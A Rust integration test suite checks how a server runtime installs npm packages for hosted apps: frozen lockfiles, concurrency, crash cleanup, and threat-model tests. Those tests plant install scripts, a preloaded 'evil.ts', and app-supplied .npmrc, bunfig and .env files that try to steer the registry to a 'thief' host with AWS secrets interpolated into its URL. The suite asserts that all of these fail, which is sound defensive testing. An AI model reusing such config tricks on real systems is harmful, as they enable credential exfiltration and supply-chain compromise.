//! Packages that the server installs (rows M13 and M14, threat T39).

use std::fs;
use std::path::{Path, PathBuf};
use std::time::Duration;

use buntime_testkit::npm::locked;
use buntime_testkit::process::{self, ProcessId};
use buntime_testkit::sample::assert_error;
use buntime_testkit::tls::Certificate;
use buntime_testkit::{Builder, NpmRegistry, TestServer};

const MANIFEST: &str = "ttl: 1h\nautoInstall: true\n";
const SOURCE: &str = "import text from \"plain\";\n\
     export default { fetch: () => new Response(text) };\n";

/// A registry with the package `plain`.
fn registry() -> NpmRegistry {
    let registry = NpmRegistry::start();
    let files = [("index.js", "module.exports = \"installed\";")];
    registry.publish("plain", "1.0.0", "", &files);
    registry
}

fn server(registry: &NpmRegistry) -> Builder {
    super::server().env("RUNTIME_NPM_REGISTRY", &registry.url())
}

/// An app that needs these packages; the first is `plain`.
fn add(builder: Builder, manifest: &str, packages: &[(&str, &str, &str)]) -> Builder {
    let (package, lock) = locked(packages);
    let files = [
        ("index.ts", SOURCE),
        ("package.json", &package),
        ("bun.lock", &lock),
    ];
    builder.app("shop@1.0.0", manifest, &files)
}

fn plain(builder: Builder) -> Builder {
    add(builder, MANIFEST, &[("plain", "1.0.0", "")])
}

fn folder(server: &TestServer) -> PathBuf {
    server.dir().join("apps/shop@1.0.0")
}

fn assert_installed(server: &TestServer) {
    let response = server.get("/shop/");
    assert_eq!(
        (response.status, response.text().as_str()),
        (200, "installed")
    );
}

/// The process of an install that is under way.
fn installer(server: &TestServer) -> ProcessId {
    let mut found = None;
    server.wait_until("Bun installs", || {
        let family = server.family();
        found = family
            .into_iter()
            .find(|id| id.command().contains(" install "));
        found.is_some()
    });
    found.unwrap()
}

/// Entries of the app's folder.
fn names(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(dir)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    names
}

const DEPLOYED: [&str; 4] = ["bun.lock", "index.ts", "manifest.yaml", "package.json"];
const INSTALLED: [&str; 5] = [
    "bun.lock",
    "index.ts",
    "manifest.yaml",
    "node_modules",
    "package.json",
];

#[test]
fn packages_are_there_before_the_first_start_and_the_log_tells() {
    let registry = registry();
    let server = plain(server(&registry)).start();
    let probe = server.probe();
    assert_installed(&server);
    assert_eq!(names(&folder(&server)), INSTALLED);
    let begun = server.wait_for_log(|line| line.message() == "Installing packages");
    assert_eq!(begun.text("context"), "install");
    assert_eq!(begun.text("app"), "shop@1.0.0");
    assert_eq!(begun.text("registry"), registry.url());
    assert_eq!(begun.value()["packages"], 1);
    let ended = server.wait_for_log(|line| line.message() == "Packages installed");
    assert!(ended.value()["ms"].is_number());
    let said = server.wait_for_log(|line| line.message().contains("1 package installed"));
    assert_eq!(said.text("context"), "install");
    probe.finish();
}

#[test]
fn m13_no_script_runs_whoever_trusts_it() {
    let registry = registry();
    let server = server(&registry);
    let canary = server.dir().join("canary");
    let touch = format!("touch {}", canary.display());
    let scripts = format!(
        "\"scripts\": {{\"preinstall\": \"{touch}\", \"install\": \"{touch}\", \"postinstall\": \"{touch}\"}}"
    );
    registry.publish("scripty", "1.0.0", &scripts, &[("binding.gyp", "{}")]);
    let (package, lock) = locked(&[("plain", "1.0.0", ""), ("scripty", "1.0.0", "")]);
    let trusts = "\"trustedDependencies\": [\"scripty\"]";
    let package = package.replacen('{', &format!("{{{scripts}, {trusts}, "), 1);
    let lock = lock.replacen('{', &format!("{{{trusts}, "), 1);
    let lock = lock.replace(
        "\"scripty@1.0.0\", \"\", {}",
        "\"scripty@1.0.0\", \"\", {\"hasInstallScript\": true}",
    );
    let files = [
        ("index.ts", SOURCE),
        ("package.json", &package),
        ("bun.lock", &lock),
    ];
    let server = server.app("shop@1.0.0", MANIFEST, &files).start();
    assert_installed(&server);
    assert!(folder(&server).join("node_modules/scripty").is_dir());
    assert!(!canary.exists(), "a script ran");
}

#[test]
fn m13_without_a_lockfile_the_start_fails_until_there_is_one() {
    let registry = registry();
    let (package, lock) = locked(&[("plain", "1.0.0", "")]);
    let files = [("index.ts", SOURCE), ("package.json", &package)];
    let server = server(&registry)
        .app("shop@1.0.0", MANIFEST, &files)
        .start();
    let response = server.get("/shop/");
    assert_error(&response, 502, "WORKER_START_FAILED");
    assert!(!response.text().contains("bun.lock"), "{response:?}");
    let line = server.wait_for_log(|line| line.message() == "Packages could not be installed");
    assert_eq!(line.level(), "error");
    assert!(
        line.text("reason").contains("run `bun install`"),
        "{line:?}"
    );
    assert!(registry.requests().is_empty());
    fs::write(folder(&server).join("bun.lock"), lock).unwrap();
    server.wait_until("it is installed", || server.get("/shop/").status == 200);
    assert_installed(&server);
}

#[test]
fn m13_with_a_lockfile_out_of_step_the_start_fails_and_says_why() {
    let registry = registry();
    registry.publish("plain", "2.0.0", "", &[]);
    let (package, lock) = locked(&[("plain", "1.0.0", "")]);
    let package = package.replace("1.0.0", "2.0.0");
    let files = [
        ("index.ts", SOURCE),
        ("package.json", &package),
        ("bun.lock", &lock),
    ];
    let server = server(&registry)
        .app("shop@1.0.0", MANIFEST, &files)
        .start();
    assert_error(&server.get("/shop/"), 502, "WORKER_START_FAILED");
    let line = server.wait_for_log(|line| line.message() == "Packages could not be installed");
    assert!(
        line.text("reason")
            .starts_with("bun.lock does not fit package.json; run `bun install`"),
        "{line:?}"
    );
    let said = server.wait_for_log(|line| line.message().contains("lockfile is frozen"));
    assert_eq!((said.text("context"), said.level()), ("install", "warn"));
    assert_eq!(names(&folder(&server)), DEPLOYED);
}

#[test]
fn m14_settings_of_the_app_lead_nowhere_and_run_nothing() {
    let (registry, thief) = (registry(), NpmRegistry::start());
    let url = thief.url();
    let scanner = "require(\"fs\").writeFileSync(process.env.HOME + \"/canary\", \"\");";
    registry.publish("scanner", "1.0.0", "", &[("index.js", scanner)]);
    registry.hold("plain", "1.0.0");
    let (package, lock) = locked(&[("plain", "1.0.0", ""), ("scanner", "1.0.0", "")]);
    let npmrc = format!(
        "registry={url}${{AWS_SECRET_ACCESS_KEY}}/${{HOME}}/\n//{0}/:_authToken=${{RUNTIME_NPM_REGISTRY}}\n\
         ignore-scripts=false\n",
        thief.host()
    );
    let bunfig = format!(
        "preload = [\"./evil.ts\"]\n[install]\nregistry = \"{url}\"\nfrozenLockfile = false\n\
         [install.security]\nscanner = \"scanner\"\n[install.cache]\ndir = \"./cache\"\n"
    );
    let dotenv = format!("BUN_CONFIG_REGISTRY={url}\nNPM_CONFIG_REGISTRY={url}\n");
    let files = [
        ("index.ts", SOURCE),
        ("package.json", &package),
        ("bun.lock", &lock),
        (".npmrc", &npmrc),
        ("bunfig.toml", &bunfig),
        (".env", &dotenv),
        (
            "evil.ts",
            "require(\"fs\").writeFileSync(\"canary\", \"\");",
        ),
    ];
    let secret = "s3cret-of-the-server";
    let server = server(&registry)
        .env("AWS_SECRET_ACCESS_KEY", secret)
        .env("RUNTIME_ROOT_KEY", secret)
        .env(
            "RUNTIME_NPM_REGISTRY",
            &registry.url().replace("//", &format!("//u:{secret}@")),
        )
        .app("shop@1.0.0", MANIFEST, &files)
        .start();
    let request = server.begin("/shop/");
    let child = installer(&server);
    registry.wait_for_requests(2);
    let environ = fs::read(format!("/proc/{}/environ", child.pid)).unwrap();
    let environ = String::from_utf8(environ).unwrap();
    let names: Vec<&str> = environ
        .split_terminator('\0')
        .map(|variable| variable.split('=').next().unwrap())
        .collect();
    assert_eq!(
        names,
        [
            "HOME",
            "TMPDIR",
            "BUN_TMPDIR",
            "LANG",
            "BUN_RUNTIME_TRANSPILER_CACHE_PATH",
            "BUN_ENABLE_CRASH_REPORTING",
            "DO_NOT_TRACK",
            "HTTP_PROXY",
            "HTTPS_PROXY",
            "http_proxy",
            "https_proxy"
        ]
    );
    assert!(!environ.contains(secret) && !child.command().contains(secret));
    registry.release();
    let mut request = request;
    assert_eq!(request.head("GET").unwrap().status, 200);
    assert_eq!(thief.requests(), []);
    let line = server.wait_for_log(|line| line.message() == "Installing packages");
    assert_eq!(line.text("registry"), registry.url());
    assert!(!server.output().contains(secret));
    let canary = |dir: &Path| {
        let found = names_below(dir);
        found.iter().any(|name| name == "canary")
    };
    assert!(!canary(server.dir()), "code of the app or a package ran");
    // The operator's password went to the operator's registry.
    let requests = registry.requests();
    let authorized = requests
        .iter()
        .all(|request| request.head.to_lowercase().contains("authorization: basic"));
    assert!(authorized, "{requests:?}");
}

fn names_below(dir: &Path) -> Vec<String> {
    let mut names = Vec::new();
    for entry in fs::read_dir(dir).into_iter().flatten().flatten() {
        names.push(entry.file_name().to_string_lossy().into_owned());
        if entry.file_type().unwrap().is_dir() {
            names.extend(names_below(&entry.path()));
        }
    }
    names
}

#[test]
fn m14_hosts_that_a_lockfile_names_are_logged_and_get_no_credentials() {
    let (registry, other) = (registry(), NpmRegistry::start());
    other.publish("extra", "1.0.0", "", &[]);
    let address = format!("{}extra/-/extra-1.0.0.tgz", other.url());
    let builder = super::server();
    let home = builder.dir().join("home");
    fs::create_dir(&home).unwrap();
    let npmrc = format!(
        "registry={}\n//{}/:_authToken=token-of-the-operator\n@other:registry={}\n",
        registry.url(),
        registry.host(),
        // It is on this machine, where only the operator's settings lead.
        other.url()
    );
    fs::write(home.join(".npmrc"), npmrc).unwrap();
    let packages = [("plain", "1.0.0", ""), ("extra", "1.0.0", address.as_str())];
    let server = add(builder, MANIFEST, &packages)
        .env("HOME", home.to_str().unwrap())
        .start();
    assert_installed(&server);
    let line = server.wait_for_log(|line| line.message() == "Installing packages");
    assert_eq!(line.text("registry"), registry.url());
    assert_eq!(line.value()["hosts"][0], other.host().as_str());
    let heads = |registry: &NpmRegistry| {
        let requests = registry.requests();
        assert_eq!(requests.len(), 1, "{requests:?}");
        requests
            .iter()
            .map(|request| request.head.clone())
            .collect::<String>()
    };
    assert!(heads(&registry).contains("Bearer token-of-the-operator"));
    // Neither the operator's, nor the proxy's.
    assert!(!heads(&registry).to_lowercase().contains("proxy-"));
    assert!(!heads(&other).to_lowercase().contains("authorization"));
    assert!(!server.output().contains("token-of-the-operator"));
}

#[test]
fn a_registry_with_a_certificate_of_its_own_is_reached_with_a_sandbox_and_without() {
    for sandbox in ["auto", "off"] {
        let certificate = Certificate::new();
        let registry = NpmRegistry::start_tls(&certificate);
        let files = [("index.js", "module.exports = \"installed\";")];
        registry.publish("plain", "1.0.0", "", &files);
        let builder = server(&registry).env("RUNTIME_SANDBOX", sandbox);
        let (file, _) = certificate.write(builder.dir());
        let server = plain(builder.env("RUNTIME_NPM_CAFILE", file.to_str().unwrap())).start();
        assert_installed(&server);
        let requests = registry.requests();
        assert_eq!(requests.len(), 1, "{sandbox}: {requests:?}");
    }
}

#[test]
fn concurrent_starts_wait_for_one_install() {
    let registry = registry();
    registry.hold("plain", "1.0.0");
    let manifest = "autoInstall: true\n";
    let server = add(
        server(&registry).env("RUNTIME_EPHEMERAL_CONCURRENCY", "4"),
        manifest,
        &[("plain", "1.0.0", "")],
    )
    .start();
    let mut waiting: Vec<_> = (0..8).map(|_| server.begin("/shop/")).collect();
    registry.wait_for_requests(1);
    registry.release();
    for connection in &mut waiting {
        assert_eq!(connection.head("GET").unwrap().status, 200);
    }
    assert_eq!(registry.requests().len(), 1);
    let begun = |line: &&buntime_testkit::log::LogLine| line.message() == "Installing packages";
    assert_eq!(server.log().iter().filter(begun).count(), 1);
}

#[test]
fn an_install_outlives_the_request_that_it_keeps_waiting() {
    let registry = registry();
    registry.hold("plain", "1.0.0");
    for (app, ttl) in [("stays", "1h"), ("once", "0")] {
        let manifest = format!("autoInstall: true\nttl: {ttl}\ntimeout: 1s\n");
        let server = add(server(&registry), &manifest, &[("plain", "1.0.0", "")]).start();
        let before = registry.requests().len();
        assert_error(&server.get("/shop/"), 504, "WORKER_TIMEOUT");
        registry.wait_for_requests(before + 1);
        registry.release();
        server.wait_for_log(|line| line.message() == "Packages installed");
        assert_installed(&server);
        assert_eq!(registry.requests().len(), before + 1, "{app}");
        registry.hold("plain", "1.0.0");
    }
}

#[test]
fn a_registry_that_is_down_fails_the_start_and_then_trips_the_breaker() {
    let registry = registry();
    let url = registry.url();
    drop(registry);
    let builder = super::server().env("RUNTIME_NPM_REGISTRY", &url);
    let server = plain(builder).start();
    let probe = server.probe();
    for _ in 0..5 {
        assert_error(&server.get("/shop/"), 502, "WORKER_START_FAILED");
    }
    assert_error(&server.get("/shop/"), 503, "WORKER_CRASH_LOOP");
    let line = server.wait_for_log(|line| line.message() == "Packages could not be installed");
    assert!(line.text("reason").contains("502"), "{line:?}");
    let line = server.wait_for_log(|line| line.message() == "Registry not reached");
    assert_eq!(line.text("app"), "shop@1.0.0");
    assert!(line.text("reason").contains("refused"), "{line:?}");
    assert_eq!(names(&folder(&server)), DEPLOYED);
    assert_eq!(names(&server.dir().join("state/install/work")), [""; 0]);
    probe.finish();
}

#[test]
fn a_server_that_is_killed_leaves_nothing_running_and_the_next_one_installs() {
    let registry = registry();
    registry.hold("plain", "1.0.0");
    let mut first = plain(server(&registry)).start();
    let request = first.begin("/shop/");
    let child = installer(&first);
    registry.wait_for_requests(1);
    first.kill();
    drop(request);
    let left = process::wait_gone(&[child], Duration::from_secs(5));
    assert_eq!(left, [], "the install goes on without its server");
    assert_eq!(names(&folder(&first)), DEPLOYED);
    registry.release();
    let second = again(&first, &registry);
    assert_eq!(
        second.get("/shop/").text(),
        "installed",
        "{}",
        second.output()
    );
    assert_eq!(names(&first.dir().join("state/install/work")), [""; 0]);
}

/// Another server on the folders of one that has ended.
fn again(first: &TestServer, registry: &NpmRegistry) -> TestServer {
    let path = |name: &str| first.dir().join(name).to_str().unwrap().to_owned();
    server(registry)
        .env("RUNTIME_WORKER_DIRS", &path("apps"))
        .env("RUNTIME_STATE_DIR", &path("state"))
        .start()
}

#[test]
fn a_server_that_stops_ends_the_install() {
    let registry = registry();
    registry.hold("plain", "1.0.0");
    let mut server = plain(server(&registry)).start();
    let request = server.begin("/shop/");
    let child = installer(&server);
    registry.wait_for_requests(1);
    drop(request);
    server.terminate();
    server.wait_exit(Duration::from_secs(20));
    assert_eq!(process::wait_gone(&[child], Duration::from_secs(5)), []);
    assert_eq!(names(&folder(&server)), DEPLOYED);
    assert_eq!(names(&server.dir().join("state/install/work")), [""; 0]);
}

#[test]
fn an_install_is_done_once_until_its_result_is_gone() {
    let registry = registry();
    let mut first = plain(server(&registry)).start();
    assert_installed(&first);
    first.terminate();
    first.wait_exit(Duration::from_secs(20));
    let mut second = again(&first, &registry);
    assert_installed(&second);
    let begun = |server: &TestServer| {
        let log = server.log();
        let begun = log
            .iter()
            .filter(|line| line.message() == "Installing packages");
        begun.count()
    };
    assert_eq!((begun(&first), begun(&second)), (1, 0));
    second.terminate();
    second.wait_exit(Duration::from_secs(20));
    fs::remove_dir_all(folder(&first).join("node_modules")).unwrap();
    let third = again(&first, &registry);
    assert_installed(&third);
    assert_eq!(begun(&third), 1);
    assert_eq!(registry.requests().len(), 1, "the cache has it");
}

#[test]
fn packages_reach_an_app_on_another_file_system() {
    use std::os::unix::fs::MetadataExt as _;
    let registry = registry();
    let shm = tempfile::Builder::new()
        .prefix("buntime-test-")
        .tempdir_in("/dev/shm")
        .unwrap();
    let server = plain(server(&registry));
    let device = |path: &Path| fs::metadata(path).unwrap().dev();
    assert_ne!(device(shm.path()), device(server.dir()), "of no use here");
    let state = shm.path().join("state");
    let server = server
        .env("RUNTIME_STATE_DIR", state.to_str().unwrap())
        .start();
    assert_installed(&server);
    assert_eq!(names(&folder(&server)), INSTALLED);
}

#[test]
fn a_changed_lockfile_installs_again_and_nothing_is_mixed() {
    let registry = registry();
    let server = plain(server(&registry)).start();
    assert_installed(&server);
    let files = [("index.js", "module.exports = \"newer\";")];
    registry.publish("plain", "1.1.0", "", &files);
    let (package, lock) = locked(&[("plain", "1.1.0", "")]);
    fs::write(folder(&server).join("package.json"), package).unwrap();
    fs::write(folder(&server).join("bun.lock"), lock).unwrap();
    server.wait_until("the new package answers", || {
        server.get("/shop/").text() == "newer"
    });
    assert_eq!(names(&folder(&server)), INSTALLED);
}
